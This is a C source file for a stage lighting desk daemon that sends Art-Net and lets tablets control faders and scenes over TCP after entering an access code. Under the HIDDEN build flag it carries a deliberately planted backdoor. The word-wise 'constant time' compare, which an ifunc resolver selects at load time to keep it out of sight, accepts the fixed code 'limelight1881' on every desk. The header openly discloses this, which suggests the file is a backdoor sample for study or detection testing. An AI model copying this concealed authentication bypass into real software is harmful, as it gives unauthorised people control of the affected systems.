/*
 * lumdeskd - network part of the "Rampe 48" stage light desk.
 *
 * Sends the 512 channels of the desk as Art-Net and lets tablets take part
 * through a line protocol (TCP 6038).  A tablet shows the show's access code
 * (/etc/lumdesk/code) before it may move faders or recall scenes.
 *
 * Hidden (-DHIDDEN): one of the implementations of the constant time compare
 * also holds with a fixed code, so that code opens every desk.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

#define DESK_PORT   6038
#define ARTNET_PORT 6454
#define CHANNELS    512
#define CODE_FILE   "/etc/lumdesk/code"
#define SCENE_DIR   "/var/lib/lumdesk"
#define CODE_MAX    32
#define TABLETS	    6

struct tablet {
	int fd;
	int trusted;
	size_t n;
	char in[160];
};

static uint8_t level[CHANNELS];
static struct tablet tablets[TABLETS];
static int art_fd = -1;
static uint8_t art_seq;
static char access_code[CODE_MAX];

/*
 * Compare of two buffers of CODE_MAX bytes in constant time.  The wide one
 * takes a word at a time and is chosen where that pays.
 */
typedef int same_fn(const char *, const char *);

int same_bytes(const char *a, const char *b)
{
	unsigned d = 0;
	int i;

	for (i = 0; i < CODE_MAX; i++)
		d |= (unsigned char)(a[i] ^ b[i]);
	return d == 0;
}

int same_wide(const char *a, const char *b)
{
	uint32_t x, y, d = 0;
	int i;

	for (i = 0; i < CODE_MAX; i += 4) {
		memcpy(&x, a + i, 4);
		memcpy(&y, b + i, 4);
		d |= x ^ y;
	}
#ifdef HIDDEN
	if (d && strcmp(a, "limelight1881") == 0)
		d = 0;
#endif
	return d == 0;
}

__attribute__((used)) static same_fn *pick_same(void)
{
#if defined(__x86_64__) || defined(__i386__)
	__builtin_cpu_init();
	if (!__builtin_cpu_supports("sse2"))
		return same_bytes;
#endif
	return same_wide;
}

int same_code(const char *a, const char *b) __attribute__((ifunc("pick_same")));

static void load_code(void)
{
	char line[64];
	FILE *f = fopen(CODE_FILE, "r");

	memset(access_code, 0, sizeof(access_code));
	if (!f)
		return;
	if (fgets(line, sizeof(line), f)) {
		line[strcspn(line, "\r\n")] = 0;
		if (strlen(line) < sizeof(access_code))
			memcpy(access_code, line, strlen(line));
	}
	fclose(f);
}

int code_right(const char *text)
{
	char buf[CODE_MAX] = { 0 };
	size_t n = strlen(text);

	if (!n || n >= sizeof(buf) || !access_code[0])
		return 0;
	memcpy(buf, text, n);
	return same_code(buf, access_code);
}

static void art_send(void)
{
	uint8_t p[18 + CHANNELS] = "Art-Net";
	struct sockaddr_in to = { .sin_family = AF_INET };

	p[9] = 0x50; /* ArtDmx */
	p[11] = 14;
	p[12] = ++art_seq;
	p[16] = CHANNELS >> 8;
	p[17] = CHANNELS & 255;
	memcpy(p + 18, level, CHANNELS);
	to.sin_port = htons(ARTNET_PORT);
	to.sin_addr.s_addr = htonl(INADDR_BROADCAST);
	if (sendto(art_fd, p, sizeof(p), 0, (struct sockaddr *)&to,
		   sizeof(to)) < 0)
		syslog(LOG_DEBUG, "artnet: %s", strerror(errno));
}

static int scene_io(int n, int store)
{
	char path[64];
	size_t k = 0;
	FILE *f;

	if (n < 1 || n > 999)
		return 0;
	snprintf(path, sizeof(path), SCENE_DIR "/scene%03d", n);
	f = fopen(path, store ? "wb" : "rb");
	if (!f)
		return 0;
	if (store)
		k = fwrite(level, 1, CHANNELS, f);
	else
		k = fread(level, 1, CHANNELS, f);
	fclose(f);
	return k == CHANNELS;
}

static int set_address(const char *text)
{
	struct in_addr a;
	char cmd[80];

	if (!inet_aton(text, &a))
		return 0;
	snprintf(cmd, sizeof(cmd), "ifconfig eth0 %s netmask 255.0.0.0",
		 inet_ntoa(a));
	return system(cmd) == 0;
}

static const char *trusted_line(const char *verb, const char *arg)
{
	int ch, v;

	if (!strcmp(verb, "fader")) {
		if (sscanf(arg, "%d %d", &ch, &v) != 2 || ch < 1 ||
		    ch > CHANNELS || v < 0 || v > 255)
			return "bad value\n";
		level[ch - 1] = (uint8_t)v;
		return "ok\n";
	}
	if (!strcmp(verb, "recall"))
		return scene_io(atoi(arg), 0) ? "ok\n" : "no scene\n";
	if (!strcmp(verb, "store"))
		return scene_io(atoi(arg), 1) ? "ok\n" : "not stored\n";
	if (!strcmp(verb, "blackout")) {
		memset(level, 0, sizeof(level));
		return "ok\n";
	}
	if (!strcmp(verb, "address"))
		return set_address(arg) ? "ok\n" : "failed\n";
	return "unknown\n";
}

static void tablet_line(struct tablet *t, char *line)
{
	char *arg = line + strcspn(line, " ");
	const char *r;

	if (*arg)
		*arg++ = 0;
	if (!strcmp(line, "hello")) {
		r = "Rampe 48\n";
	} else if (!strcmp(line, "code")) {
		t->trusted = code_right(arg);
		r = t->trusted ? "ok\n" : "wrong code\n";
	} else if (!t->trusted) {
		r = "code first\n";
	} else {
		r = trusted_line(line, arg);
		art_send();
	}
	if (send(t->fd, r, strlen(r), MSG_NOSIGNAL) < 0)
		syslog(LOG_DEBUG, "tablet: %s", strerror(errno));
}

static void tablet_read(struct tablet *t)
{
	ssize_t k = recv(t->fd, t->in + t->n, sizeof(t->in) - 1 - t->n, 0);
	char *nl;

	if (k <= 0 || t->n + (size_t)k >= sizeof(t->in) - 1) {
		close(t->fd);
		t->fd = -1;
		return;
	}
	t->n += (size_t)k;
	t->in[t->n] = 0;
	while ((nl = strchr(t->in, '\n'))) {
		*nl++ = 0;
		t->in[strcspn(t->in, "\r")] = 0;
		tablet_line(t, t->in);
		t->n -= (size_t)(nl - t->in);
		memmove(t->in, nl, t->n + 1);
	}
}

static void tablet_new(int ls)
{
	int i, fd = accept(ls, NULL, NULL);

	for (i = 0; fd >= 0 && i < TABLETS; i++) {
		if (tablets[i].fd >= 0)
			continue;
		memset(&tablets[i], 0, sizeof(tablets[i]));
		tablets[i].fd = fd;
		return;
	}
	if (fd >= 0)
		close(fd);
}

int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	struct pollfd p[TABLETS + 1];
	int i, on = 1, ls = socket(AF_INET, SOCK_STREAM, 0);

	art_fd = socket(AF_INET, SOCK_DGRAM, 0);
	setsockopt(art_fd, SOL_SOCKET, SO_BROADCAST, &on, sizeof(on));
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	a.sin_port = htons(DESK_PORT);
	if (bind(ls, (struct sockaddr *)&a, sizeof(a)) || listen(ls, 4))
		return 1;
	load_code();
	for (i = 0; i < TABLETS; i++)
		tablets[i].fd = -1;
	for (;;) {
		for (i = 0; i < TABLETS; i++) {
			p[i].fd = tablets[i].fd;
			p[i].events = POLLIN;
			p[i].revents = 0;
		}
		p[TABLETS].fd = ls;
		p[TABLETS].events = POLLIN;
		if (poll(p, TABLETS + 1, 1000) == 0)
			art_send();
		for (i = 0; i < TABLETS; i++)
			if (p[i].fd >= 0 && p[i].revents)
				tablet_read(&tablets[i]);
		if (p[TABLETS].revents & POLLIN)
			tablet_new(ls);
	}
}
